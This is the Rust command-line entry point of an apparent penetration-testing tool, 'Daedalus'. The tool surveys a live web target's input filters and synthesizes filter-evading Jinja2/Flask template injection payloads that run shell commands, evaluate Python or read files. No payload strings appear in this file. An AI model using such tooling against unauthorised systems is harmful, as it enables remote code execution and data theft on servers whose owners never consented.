//! Daedalus - filter-aware SSTI payload synthesizer CLI

use clap::{Args, Parser, Subcommand};
use colored::Colorize;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use tabled::builder::Builder;
use tabled::settings::Style;
use tracing_subscriber::EnvFilter;

use daedalus::config;
use daedalus::engine::{AttackOutcome, Exploiter};
use daedalus::http::KeywordListTransport;
use daedalus::models::{Atom, DelimiterStyle, EngagementConfig, EngagementReport, SubmitMode, TemplateEnvironment};
use daedalus::oracle::classifier::{ClassifierConfig, MarkerClassifier};
use daedalus::report;
use daedalus::resolver::{CallTarget, Capability, ObjectTarget};
use daedalus::session::{Restore, Session, SessionSettings};
use daedalus::synth::catalog::CATALOG;

/// Daedalus - builds SSTI payloads that slip past input filters
#[derive(Parser)]
#[command(name = "daedalus", version, about, long_about = None)]
struct Cli {
    #[command(subcommand)]
    command: Commands,
}

/// Where and how to reach the vulnerable parameter
#[derive(Args)]
struct TargetArgs {
    /// Target URL
    #[arg(short, long)]
    url: Option<String>,

    /// Vulnerable parameter name
    #[arg(short, long)]
    param: Option<String>,

    /// How the payload is submitted (query, form, json, path)
    #[arg(short, long)]
    mode: Option<SubmitMode>,

    /// Template environment (jinja2 or flask)
    #[arg(short, long)]
    environment: Option<TemplateEnvironment>,

    /// Extra parameters sent with every request (format: "key=value")
    #[arg(short = 'd', long = "data")]
    extra: Option<Vec<String>>,

    /// Flask: send call arguments in this parameter, read via request.values
    #[arg(long)]
    arg_param: Option<String>,

    /// Custom headers (format: "Key: Value")
    #[arg(short = 'H', long)]
    header: Option<Vec<String>>,

    /// Concurrent probes
    #[arg(long)]
    threads: Option<usize>,

    /// Probe timeout in seconds
    #[arg(long)]
    timeout: Option<u64>,

    /// HTTP/HTTPS proxy URL
    #[arg(long)]
    proxy: Option<String>,

    /// Max probes per second (0 = unlimited)
    #[arg(long)]
    rate_limit: Option<u32>,

    /// Path to configuration file
    #[arg(short, long)]
    config: Option<PathBuf>,

    /// Load and save learned filter facts here
    #[arg(long)]
    session: Option<PathBuf>,

    /// Verbose output
    #[arg(short, long)]
    verbose: bool,
}

/// What the payload should do
#[derive(Args)]
#[group(required = true, multiple = false)]
struct CapabilityArgs {
    /// Run a shell command
    #[arg(long)]
    exec: Option<String>,

    /// Evaluate Python source
    #[arg(long)]
    eval: Option<String>,

    /// Read a file
    #[arg(long)]
    read_file: Option<String>,

    /// Render the Flask config object
    #[arg(long)]
    config_object: bool,

    /// Reach the os module
    #[arg(long)]
    os_module: bool,

    /// Reach the builtins namespace
    #[arg(long)]
    builtins: bool,

    /// Render a literal string
    #[arg(long)]
    literal: Option<String>,
}

impl CapabilityArgs {
    fn capability(self) -> Capability {
        if let Some(cmd) = self.exec {
            Capability::Call(CallTarget::ShellCommand(cmd))
        } else if let Some(code) = self.eval {
            Capability::Call(CallTarget::Eval(code))
        } else if let Some(path) = self.read_file {
            Capability::Call(CallTarget::ReadFile(path))
        } else if let Some(s) = self.literal {
            Capability::Literal(s)
        } else if self.config_object {
            Capability::Object(ObjectTarget::Config)
        } else if self.os_module {
            Capability::Object(ObjectTarget::OsModule)
        } else {
            Capability::Object(ObjectTarget::Builtins)
        }
    }
}

#[derive(Subcommand)]
enum Commands {
    /// Synthesize and confirm a payload against a live target
    Crack {
        #[command(flatten)]
        target: TargetArgs,

        #[command(flatten)]
        capability: CapabilityArgs,

        /// Write a JSON report here
        #[arg(short, long)]
        output: Option<PathBuf>,
    },

    /// Plan a payload offline against a known keyword blacklist
    CrackKeywords {
        /// Keyword list (.txt one per line, or .json array)
        #[arg(short, long)]
        keywords: PathBuf,

        /// Shell command to run
        #[arg(long, default_value = "id")]
        exec: String,

        /// Template environment (jinja2 or flask)
        #[arg(short, long, default_value = "flask")]
        environment: TemplateEnvironment,

        /// Verbose output
        #[arg(short, long)]
        verbose: bool,
    },

    /// Probe common characters and keywords and list what is blocked
    Survey {
        #[command(flatten)]
        target: TargetArgs,
    },

    /// List the construct catalog
    Constructs,
}

/// Characters probed by `survey` besides the vocabulary
const SURVEY_CHARS: &str = "_.[]()'\"|~+%,=:/\\ 0123456789";

fn init_tracing(verbose: bool) {
    let filter = if verbose { "daedalus=debug" } else { "daedalus=info" };
    tracing_subscriber::fmt()
        .with_env_filter(EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new(filter)))
        .with_target(false)
        .init();
}

fn print_banner() {
    let banner = r#"
    ╔═══════════════════════════════════════╗
    ║  DAEDALUS v0.1.0                      ║
    ║  Filter-aware SSTI payload builder    ║
    ╚═══════════════════════════════════════╝
    "#;
    println!("{}", banner.cyan());
}

fn build_config(args: TargetArgs) -> daedalus::error::Result<EngagementConfig> {
    let mut engagement = if let Some(ref path) = args.config {
        config::load_config(path)?
    } else {
        let default_path = Path::new("config/default.toml");
        if default_path.exists() {
            config::load_config(default_path)?
        } else {
            EngagementConfig::default()
        }
    };

    config::merge_cli_args(
        &mut engagement,
        args.url,
        args.param,
        args.mode,
        args.environment,
        args.threads,
        args.timeout,
        args.proxy,
        args.rate_limit,
        args.header,
        args.extra,
        args.arg_param,
        args.session,
    );

    if engagement.target.is_empty() {
        return Err(daedalus::error::DaedalusError::ConfigError(
            "no target URL given (use --url or a config file)".to_string(),
        ));
    }
    Ok(engagement)
}

fn restore_session(session: &Session, path: Option<&Path>) -> daedalus::error::Result<()> {
    let Some(path) = path else {
        return Ok(());
    };
    match session.restore(path)? {
        Restore::Loaded(n) => println!("  {} {} facts from {}", "Session:".bold(), n.to_string().green(), path.display()),
        Restore::Missing => println!("  {} new ({})", "Session:".bold(), path.display()),
        Restore::Corrupt(e) => println!("  {} {} ({e})", "Session:".bold(), "corrupt, starting fresh".yellow()),
        Restore::ForeignTarget(t) => println!("  {} {} ({t})", "Session:".bold(), "belongs to another target, ignored".yellow()),
    }
    Ok(())
}

fn print_outcome(outcome: &AttackOutcome) {
    match outcome {
        AttackOutcome::Confirmed {
            payload,
            route,
            confirmations,
            ..
        } => {
            println!("\n  {} via {}", "CONFIRMED".green().bold(), route.cyan());
            println!("  {} {}", "Confirmations:".bold(), confirmations);
            println!("\n  {}\n", payload.bold());
        }
        AttackOutcome::Infeasible { routes } => {
            println!("\n  {}", "INFEASIBLE".red().bold());
            for route in routes {
                println!("    {} {}", "goal:".bold(), route.goal);
                for dead_end in &route.dead_ends {
                    println!("      {} {}", "dead end:".dimmed(), dead_end);
                }
            }
        }
        AttackOutcome::BudgetExceeded { report } => {
            println!(
                "\n  {} after {} nodes on {} (raise [search] max_nodes or max_depth)",
                "BUDGET EXCEEDED".yellow().bold(),
                report.nodes,
                report.goal
            );
        }
        AttackOutcome::NoDelimiter => {
            println!("\n  {} every template delimiter is blocked", "FAILED".red().bold());
        }
        AttackOutcome::Unconfirmed { attempts } => {
            println!("\n  {} target rejected every payload", "UNCONFIRMED".red().bold());
            for attempt in attempts {
                println!("    {}", attempt.dimmed());
            }
        }
    }
}

fn load_keywords(path: &Path) -> daedalus::error::Result<Vec<String>> {
    let content = std::fs::read_to_string(path)?;
    if path.extension().is_some_and(|e| e == "json") {
        let words: Vec<String> = serde_json::from_str(&content)?;
        return Ok(words);
    }
    Ok(content
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(str::to_string)
        .collect())
}

fn blocked_atom_ids(session: &Session) -> Vec<String> {
    let mut ids: Vec<String> = session
        .oracle()
        .export_facts()
        .into_iter()
        .filter(|(_, fact)| !fact.is_allowed())
        .map(|(atom, _)| atom.id())
        .collect();
    ids.sort();
    ids
}

#[tokio::main]
async fn main() -> std::result::Result<(), Box<dyn std::error::Error>> {
    let cli = Cli::parse();

    match cli.command {
        Commands::Crack {
            target,
            capability,
            output,
        } => {
            init_tracing(target.verbose);
            print_banner();

            let engagement = build_config(target)?;
            let capability = capability.capability();

            println!("  {} {}", "Target:".bold(), engagement.target.green());
            println!("  {} {}", "Parameter:".bold(), engagement.param.cyan());
            println!("  {} {}\n", "Capability:".bold(), capability.to_string().cyan());

            let session = Session::from_config(&engagement)?;
            restore_session(&session, engagement.session_file.as_deref())?;

            let outcome = Exploiter::new(&session).exploit(&capability).await;
            print_outcome(&outcome);

            if let Some(ref path) = engagement.session_file {
                session.save(path)?;
            }

            if let Some(path) = output {
                let mut engagement_report =
                    EngagementReport::new(session.target(), capability.to_string(), outcome);
                engagement_report.total_probes = session.oracle().probe_count();
                engagement_report.blocked_atoms = blocked_atom_ids(&session);
                engagement_report.finish();
                report::json::export(&engagement_report, &path)?;
                println!("  {} {}", "Report saved to:".bold(), path.display().to_string().green());
            }
        }

        Commands::CrackKeywords {
            keywords,
            exec,
            environment,
            verbose,
        } => {
            init_tracing(verbose);
            print_banner();

            let words = load_keywords(&keywords)?;
            println!("  {} {} keywords from {}", "Filter:".bold(), words.len().to_string().cyan(), keywords.display());

            let classifier = MarkerClassifier::new(ClassifierConfig {
                blocked_markers: vec![KeywordListTransport::BLOCKED_BODY.to_string()],
                ..ClassifierConfig::default()
            });
            let mut settings = SessionSettings {
                environment,
                ..SessionSettings::default()
            };
            settings.oracle.parallelism = 1;
            let session = Session::new(
                format!("keywords:{}", keywords.display()),
                Arc::new(KeywordListTransport::new(words)),
                Arc::new(classifier),
                settings,
            );

            let outcome = Exploiter::new(&session)
                .exploit(&Capability::Call(CallTarget::ShellCommand(exec)))
                .await;
            print_outcome(&outcome);
        }

        Commands::Survey { target } => {
            init_tracing(target.verbose);
            print_banner();

            let engagement = build_config(target)?;
            println!("  {} {}\n", "Target:".bold(), engagement.target.green());
            let session = Session::from_config(&engagement)?;
            restore_session(&session, engagement.session_file.as_deref())?;
            let oracle = session.oracle();

            let mut atoms: Vec<Atom> = DelimiterStyle::ALL.into_iter().map(Atom::Delimiter).collect();
            atoms.extend(SURVEY_CHARS.chars().map(Atom::Char));
            atoms.extend(session.settings().oracle.vocabulary.iter().map(|w| Atom::Keyword(w.clone())));

            let mut builder = Builder::default();
            builder.push_record(["Atom", "Status", "Confidence"]);
            let mut blocked = 0;
            for atom in &atoms {
                let fact = oracle.learn(atom).await;
                if fact.is_allowed() {
                    continue;
                }
                blocked += 1;
                builder.push_record([atom.to_string(), format!("{:?}", fact.status), format!("{:?}", fact.confidence)]);
            }

            let mut table = builder.build();
            table.with(Style::rounded());
            println!("{table}");
            println!(
                "\n  {} of {} atoms blocked, {} probes sent",
                blocked.to_string().red().bold(),
                atoms.len(),
                oracle.probe_count()
            );

            if let Some(ref path) = engagement.session_file {
                session.save(path)?;
            }
        }

        Commands::Constructs => {
            print_banner();
            let mut builder = Builder::default();
            builder.push_record(["Construct", "Produces", "Score", "Example"]);
            for c in CATALOG {
                builder.push_record([
                    c.id.to_string(),
                    format!("{:?}", c.tag),
                    c.score.to_string(),
                    c.example.to_string(),
                ]);
            }
            let mut table = builder.build();
            table.with(Style::rounded());
            println!("{table}");
        }
    }

    Ok(())
}
